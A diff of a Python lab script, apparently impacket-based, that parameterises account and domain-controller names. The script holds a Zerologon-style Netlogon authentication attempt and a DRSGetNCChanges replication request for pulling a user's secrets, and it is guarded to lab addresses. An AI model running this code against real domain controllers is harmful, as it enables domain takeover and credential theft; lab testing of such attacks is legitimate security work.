@@ -30,7 +30,7 @@ LAB = ipaddress.ip_network(os.environ["LAB_NET"])
 OXID_RESOLVER = ("99fcfec4-5260-101b-bbcb-00aa0021347a", "0.0")
 
 
-def connect(binding, interface, level=1, account="alice"):
+def connect(binding, interface, level=1, account=os.environ["ALICE"]):
     host = re.search(r"\d+\.\d+\.\d+\.\d+", binding).group()
     if ipaddress.ip_address(host) not in LAB:
         raise SystemExit(f"{host} is not in the lab")
@@ -88,7 +88,7 @@ def netlogon(binding, count, version="3"):
         channel = nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel
         ask = nrpc.hNetrServerAuthenticate3 if version == "3" else nrpc.hNetrServerAuthenticate2
         try:
-            ask(rpc, NULL, "DC1$\0", channel, "EVIL\0", bytes(8), 0x212FFFFF)
+            ask(rpc, NULL, os.environ["DC_NAME"].upper() + "$\0", channel, "EVIL\0", bytes(8), 0x212FFFFF)
         finally:
             rpc.disconnect()
 
@@ -122,7 +122,7 @@ def replica(binding, account, mode, level="6"):
 
 
 def one_object(handle):
-    name = f"CN=alice,CN=Users,DC={os.environ['REALM'].lower().replace('.', ',DC=')}\0"
+    name = f"CN={os.environ['ALICE']},CN=Users,DC={os.environ['REALM'].lower().replace('.', ',DC=')}\0"
     request = drsuapi.DRSGetNCChanges()
     request["hDrs"] = handle
     request["dwInVersion"] = 8
